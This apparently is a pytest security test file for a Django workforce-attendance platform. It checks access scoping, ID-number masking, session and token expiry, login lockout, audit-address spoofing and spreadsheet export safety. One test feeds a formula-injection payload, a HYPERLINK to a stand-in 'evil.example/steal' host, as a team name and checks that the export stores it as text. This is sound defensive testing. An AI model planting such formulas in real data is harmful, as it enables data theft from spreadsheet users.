"""An attacker with an ordinary account tries to read or change what is not its own (issue 14): each
attempt made through the API or the pages as that account would, and each refused."""

from __future__ import annotations

import datetime as dt
import re

import pytest
import time_machine
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from attendance.models import DailyPresence
from inspections.services.cases import case_open
from projects.models import IdentityConflict, StatusRequest, User
from projects.services.status import status_request_submit
from tests.factories import engage, id_number, person

pytestmark = pytest.mark.django_db

SH = dt.timezone(dt.timedelta(hours=8))
NUMBER = id_number("330203", "19850612", 231)  # 330203 19850612 231X: the mask hides exactly 19850612


def page_client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def register(client, project, employer, number=NUMBER, name="李建军", **extra):
    return client.post(
        f"/api/v1/projects/{project.permit_no}/engagements/",
        {
            "id_number": number,
            "name": name,
            "employer": employer.uscc,
            "category": "worker",
            "team": "钢筋一班",
            "trade": "020",
            "entered_on": "2026-11-20",
            **extra,
        },
        format="json",
    )


@pytest.fixture(autouse=True)
def nov_25():
    with time_machine.travel(dt.datetime(2026, 11, 25, 10, tzinfo=SH), tick=False):
        yield


# --- Masking that holds --------------------------------------------------------------------------------


def test_nothing_shown_with_a_masked_number_restores_it(city):
    """The mask hides the eight birth-date digits; no answer gives them back beside it."""
    assert register(city.client("contractor"), city.project, city.subcontractor).status_code == 201
    listed = city.client("contractor").get(f"/api/v1/projects/{city.project.permit_no}/engagements/")
    row = listed.json()["results"][0]
    assert row["id_number"] == "330203********231" + NUMBER[-1] and row["birth_year"] == 1985
    assert "birth_date" not in row and "19850612" not in listed.content.decode()
    assert "1985-06-12" not in listed.content.decode() and "1985年6月12日" not in listed.content.decode()
    admin = page_client(city.users["contractor"])
    held = city.project.engagements.get().person_id
    for page in ("/admin/projects/person/", f"/admin/projects/person/{held}/change/"):
        shown = admin.get(page).content.decode()
        assert "330203********231" in shown and "1985年6月12日" not in shown and "19850612" not in shown, page


# --- Registration without an oracle ---------------------------------------------------------------------


def test_a_probe_with_a_false_name_learns_no_name_and_the_district_sees_it(city):
    """Jiangbei's contractor tries a number registered in Haishu under another name: the refusal names
    no one and writes nothing; Jiangbei's staff see the conflict on their district page."""
    assert register(city.client("contractor"), city.project, city.subcontractor).status_code == 201
    probe = register(city.client("other_contractor"), city.other_project, city.other_contractor, name="张三")
    assert probe.status_code == 400 and "id_number" in probe.json()
    assert "李建军" not in probe.content.decode()
    assert not city.other_project.engagements.exists()
    conflict = IdentityConflict.objects.get()
    assert (conflict.offered_name, conflict.project, conflict.offered_by) == (
        "张三",
        city.other_project,
        city.users["other_contractor"],
    )
    jiangbei = page_client(city.users["jiangbei"]).get("/districts/330205/").content.decode()
    section = jiangbei.split("身份信息冲突")[1]
    assert "张三" in section and "李建军" in section and NUMBER not in jiangbei
    assert "张三" not in page_client(city.users["haishu"]).get("/districts/330203/").content.decode()
    reviewed = page_client(city.users["jiangbei"]).post(f"/identity-conflicts/{conflict.pk}/review/")
    assert reviewed.status_code == 302
    assert "张三" not in page_client(city.users["jiangbei"]).get("/districts/330205/").content.decode()
    # Another district cannot mark it, nor an enterprise.
    assert page_client(city.users["haishu"]).post(f"/identity-conflicts/{conflict.pk}/review/").status_code == 404


# --- Measure targets on the case's own project ------------------------------------------------------------


def test_district_staff_cannot_put_a_measure_on_a_firm_or_person_of_another_district(city):
    stranger = engage(city.other_project, city.other_contractor, person(id_number("330205", "19800101", 11), "赵六"))
    case = case_open(user=city.users["haishu"], project=city.project, title="考勤异常")
    staff = city.client("haishu")
    firm = staff.post(
        f"/api/v1/cases/{case.pk}/measures/",
        {
            "kind": "credit",
            "issued_on": "2026-11-24",
            "target_enterprise": city.other_contractor.uscc,
            "points": 3,
        },
        format="json",
    )
    assert firm.status_code == 400 and "target_enterprise" in firm.json()
    someone = staff.post(
        f"/api/v1/cases/{case.pk}/measures/",
        {
            "kind": "credit",
            "issued_on": "2026-11-24",
            "target_person": stranger.person_id,
            "points": 3,
        },
        format="json",
    )
    nobody = staff.post(
        f"/api/v1/cases/{case.pk}/measures/",
        {
            "kind": "credit",
            "issued_on": "2026-11-24",
            "target_person": 99_999_999,
            "points": 3,
        },
        format="json",
    )
    assert someone.status_code == nobody.status_code == 400
    assert someone.json() == nobody.json() and "赵六" not in someone.content.decode()  # no oracle either
    assert not case.measures.exists()
    own = staff.post(
        f"/api/v1/cases/{case.pk}/measures/",
        {
            "kind": "credit",
            "issued_on": "2026-11-24",
            "target_enterprise": city.subcontractor.uscc,
            "points": 3,
        },
        format="json",
    )
    assert own.status_code == 201


# --- The people scope -----------------------------------------------------------------------------------


@pytest.fixture
def staffed(city):
    """The contractor's project manager and a worker, the subcontractor's worker; a day's presence each."""
    manager = engage(
        city.project,
        city.contractor,
        person(id_number("330203", "19700101", 21), "王建国"),
        category="manager",
        position="project_manager",
    )
    ours = engage(city.project, city.contractor, person(id_number("330203", "19900101", 31), "总包工人甲"))
    theirs = engage(city.project, city.subcontractor, person(id_number("330203", "19910101", 41), "分包工人乙"))
    at = dt.datetime(2026, 11, 24, 8, tzinfo=SH)
    DailyPresence.objects.bulk_create(
        [
            DailyPresence(
                person=e.person,
                project=city.project,
                day=dt.date(2026, 11, 24),
                first_at=at,
                last_at=at,
                punch_count=1,
                valid_count=1,
                first_valid_at=at,
                last_valid_at=at,
            )
            for e in (manager, ours, theirs)
        ]
    )
    return {"manager": manager, "ours": ours, "theirs": theirs}


def test_a_vendor_sees_its_devices_but_no_worker(city, staffed, gate):
    page = page_client(city.users["vendor"]).get(f"/projects/{city.project.permit_no}/").content.decode()
    assert "HS-GATE-01" in page
    assert not any(name in page for name in ("王建国", "总包工人甲", "分包工人乙"))
    presence = city.client("vendor").get(f"/api/v1/projects/{city.project.permit_no}/presence/?month=2026-11")
    assert presence.status_code == 200 and presence.json()["managers"] == []
    admin = page_client(city.users["vendor"])
    assert "分包工人乙" not in admin.get("/admin/attendance/dailypresence/").content.decode()
    assert city.client("vendor").get("/api/v1/alerts/").json()["count"] == 0


def test_a_subcontractor_sees_its_own_workers_only(city, staffed):
    page = page_client(city.users["subcontractor"]).get(f"/projects/{city.project.permit_no}/").content.decode()
    assert "分包工人乙" in page and "总包工人甲" not in page and "王建国" not in page
    presence = city.client("subcontractor").get(f"/api/v1/projects/{city.project.permit_no}/presence/")
    assert presence.json()["managers"] == []
    listed = page_client(city.users["subcontractor"]).get("/admin/attendance/dailypresence/").content.decode()
    assert "分包工人乙" in listed and "总包工人甲" not in listed
    # The general contractor answers for the whole site: it sees everyone.
    whole = page_client(city.users["contractor"]).get(f"/projects/{city.project.permit_no}/").content.decode()
    assert all(name in whole for name in ("王建国", "总包工人甲", "分包工人乙"))


# --- City settings are the city's alone -----------------------------------------------------------------


@pytest.mark.parametrize(
    "page",
    [
        "/admin/inspections/policy/",
        "/admin/inspections/exportgrant/",
        "/admin/inspections/rulerun/",
        "/admin/inspections/nightlyrun/",
        "/admin/inspections/creditdeduction/",
        "/admin/projects/region/",
    ],
)
def test_only_the_city_opens_the_city_settings_in_the_admin(city, page):
    for who in ("haishu", "contractor", "vendor"):
        assert page_client(city.users[who]).get(page).status_code == 403, who
    assert page_client(city.users["city"]).get(page).status_code == 200


# --- A request the city filed is the city's --------------------------------------------------------------


def test_district_staff_cannot_withdraw_or_add_files_to_a_request_the_city_filed(city):
    request = status_request_submit(
        user=city.users["city"],
        project=city.project,
        kind="suspension",
        reason="市级督办停工",
        effective_from=dt.date(2026, 11, 25),
    )
    staff = city.client("haishu")
    assert staff.post(f"/api/v1/status-requests/{request.pk}/withdraw/").status_code == 403
    pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = staff.post(
        f"/api/v1/status-requests/{request.pk}/attachments/",
        {"kind": "form_scan", "file": SimpleUploadedFile("a.pdf", pdf, "application/pdf")},
        format="multipart",
    )
    assert upload.status_code == 403
    request.refresh_from_db()
    assert request.state != "withdrawn" and not request.attachments.exists()
    assert StatusRequest.objects.get(pk=request.pk).state == "pending_district"


# --- Accounts are made with their reach ------------------------------------------------------------------


def test_an_account_is_never_city_wide_by_default(city):
    with pytest.raises(ValueError, match="role"):
        User.objects.create_user("nobody", password="x-long-password-2026")
    admin = page_client(city.users["city"])
    # A regulator's form has no password: the holder sets one through a one-time link.
    answer = admin.post("/admin/projects/user/add/", {"username": "new.staff", "role": "district", "phone": ""})
    assert answer.status_code == 200 and not User.objects.filter(username="new.staff").exists()
    assert "区县" in answer.content.decode() or "district" in answer.content.decode()
    made = admin.post(
        "/admin/projects/user/add/",
        {"username": "new.staff", "role": "district", "district": city.haishu.pk, "phone": ""},
        follow=True,
    )
    assert made.status_code == 200
    staff = User.objects.get(username="new.staff")
    assert (staff.role, staff.district, staff.has_usable_password()) == ("district", city.haishu, False)
    assert "/password/set/" in made.content.decode()
    operator = User.objects.create_superuser("operator", password="Operator-2026!long")
    assert operator.role == "city" and operator.is_superuser


# --- The full number never travels in a cookie ------------------------------------------------------------


def test_the_admins_reveal_shows_the_number_once_and_keeps_it_nowhere(city):
    assert register(city.client("contractor"), city.project, city.subcontractor).status_code == 201
    viewer = city.users["haishu"]
    viewer.user_permissions.add(Permission.objects.get(codename="view_full_id_number"))
    client = page_client(User.objects.get(pk=viewer.pk))
    pk = city.project.engagements.get().person_id
    answer = client.get(f"/admin/projects/person/{pk}/reveal/")
    assert answer.status_code == 200 and NUMBER in answer.content.decode()
    assert "no-store" in answer["Cache-Control"]
    assert all(NUMBER not in morsel.value for morsel in answer.cookies.values())
    assert NUMBER not in str(dict(client.session))
    again = client.get(f"/admin/projects/person/{pk}/change/").content.decode()
    assert NUMBER not in again  # nothing carried over to the next page


# --- Sessions and tokens tire ---------------------------------------------------------------------------


def test_a_regulators_session_ends_after_thirty_idle_minutes(city):
    client = page_client(city.users["haishu"])
    assert client.get("/districts/330203/").status_code == 200
    with time_machine.travel(dt.datetime(2026, 11, 25, 10, 29, tzinfo=SH), tick=False):
        assert client.get("/districts/330203/").status_code == 200  # 29 minutes: still in
    with time_machine.travel(dt.datetime(2026, 11, 25, 11, 0, 30, tzinfo=SH), tick=False):
        ended = client.get("/districts/330203/")
    assert ended.status_code == 302 and ended["Location"].startswith("/login/")
    assert client.get("/districts/330203/")["Location"].startswith("/login/")  # logged out for good
    contractor = page_client(city.users["contractor"])
    contractor.get("/projects/")
    with time_machine.travel(dt.datetime(2026, 11, 25, 10, 31, tzinfo=SH), tick=False):
        assert contractor.get("/projects/").status_code == 200  # other roles: SMZ_SESSION_IDLE_MINUTES_OTHER


def test_the_idle_clock_starts_at_the_login_and_the_first_page_writes_no_session(city):
    """A login left unused longer than its role allows is ended on its first page, as one used and then left;
    the first page soon after a login finds its time written and writes the session no more."""
    with time_machine.travel(dt.datetime(2026, 11, 25, 10, 0, tzinfo=SH), tick=False):
        unused, used = page_client(city.users["haishu"]), page_client(city.users["haishu"])
    at = dt.datetime(2026, 11, 25, 10, 0, 30, tzinfo=SH)
    with time_machine.travel(at, tick=False), CaptureQueriesContext(connection) as queries:
        assert used.get("/districts/330203/").status_code == 200
    writes = [q["sql"] for q in queries if q["sql"].startswith(("UPDATE", "INSERT")) and "django_session" in q["sql"]]
    assert writes == []
    with time_machine.travel(dt.datetime(2026, 11, 25, 10, 31, tzinfo=SH), tick=False):
        ended = unused.get("/districts/330203/")
    assert ended.status_code == 302 and ended["Location"].startswith("/login/")


def test_five_wrong_passwords_lock_the_login_from_that_address(city):
    client = Client(REMOTE_ADDR="203.0.113.9")
    for _ in range(5):
        wrong = client.post("/login/", {"username": "haishu", "password": "guess"})
        assert wrong.status_code in (200, 429)
    locked = client.post("/login/", {"username": "haishu", "password": "a-long-test-password"})
    assert locked.status_code == 429 and "已被暂时锁定" in locked.content.decode()
    assert "_auth_user_id" not in client.session
    # Another address is not locked out of the same account (a lockout is not a denial of service).
    other = Client(REMOTE_ADDR="198.51.100.7")
    assert other.post("/login/", {"username": "haishu", "password": "a-long-test-password"}).status_code == 302


def test_a_token_expires_and_its_holder_rotates_it(city):
    from projects.services.accounts import token_issue

    token = token_issue(user=city.users["haishu"], days=30)
    client = city.client("haishu")
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    assert client.get("/api/v1/me/").status_code == 200
    rotated = client.post("/api/v1/auth/token/rotate/")
    assert rotated.status_code == 201
    fresh = rotated.json()["token"]
    assert client.get("/api/v1/me/").status_code == 401  # the presented token is gone
    client.credentials(HTTP_AUTHORIZATION=f"Token {fresh}")
    assert client.get("/api/v1/me/").json()["username"] == "haishu"
    with time_machine.travel(dt.datetime(2026, 11, 25, 10, tzinfo=SH) + dt.timedelta(days=91), tick=False):
        assert client.get("/api/v1/me/").status_code == 401  # SMZ_API_TOKEN_DAYS (90) later


def test_an_api_call_reads_the_token_it_presents_and_no_other(city):
    """knox read every token of the account on each call, to delete the expired ones among them; the night's
    housekeeping does that now (tests/platform/test_tasks.py). An expired token presented is still refused."""
    from django.utils import timezone
    from knox.models import AuthToken

    from projects.services.accounts import token_issue

    expiring, current = token_issue(user=city.users["haishu"], days=1), token_issue(user=city.users["haishu"], days=30)
    client = city.client("haishu")
    with time_machine.travel(timezone.now() + dt.timedelta(days=2), tick=False):
        client.credentials(HTTP_AUTHORIZATION=f"Token {current}")
        with CaptureQueriesContext(connection) as queries:
            assert client.get("/api/v1/me/").json()["username"] == "haishu"
        assert len([q for q in queries if '"knox_authtoken"' in q["sql"]]) == 1
        assert AuthToken.objects.filter(expiry__lt=timezone.now()).count() == 1  # left for the night
        client.credentials(HTTP_AUTHORIZATION=f"Token {expiring}")
        assert client.get("/api/v1/me/").status_code == 401
        assert AuthToken.objects.filter(expiry__lt=timezone.now()).count() == 0  # presented, expired: deleted


# --- The audit log's address is the one our proxy saw ------------------------------------------------------


def test_a_forged_forwarded_for_does_not_write_the_audit_address(city, settings):
    from smz_platform.common.models import AuditEvent

    url = "/reports/manager-presence.xlsx?district=330203&month=2026-11"
    client = city.client("haishu")
    client.get(url, REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="1.2.3.4")
    assert AuditEvent.objects.latest("at").client_address == "10.0.0.5"  # no proxy: the socket's address
    settings.SMZ_TRUSTED_PROXY_HOPS = 1
    client.get(url, REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.50")
    assert AuditEvent.objects.latest("at").client_address == "203.0.113.50"  # what our one proxy appended
    assert re.fullmatch(r"[\d.]+", AuditEvent.objects.latest("at").client_address)


# --- Workbooks hold text, never code ------------------------------------------------------------------


def test_a_name_written_as_a_formula_stays_text_in_the_regulators_workbook(city):
    """A contractor registers a team named like a formula; the district downloads the project's ledger:
    the cell is text, and the sheet holds no formula at all."""
    import io
    import zipfile

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/steal","点击查看")'
    answer = register(city.client("contractor"), city.project, city.subcontractor, team=formula)
    assert answer.status_code == 201
    download = city.client("contractor").get(
        f"/reports/ledger.xlsx?project={city.project.permit_no}&from=2026-11&to=2026-11"
    )
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(download.content))["人员台账"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(io.BytesIO(download.content)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
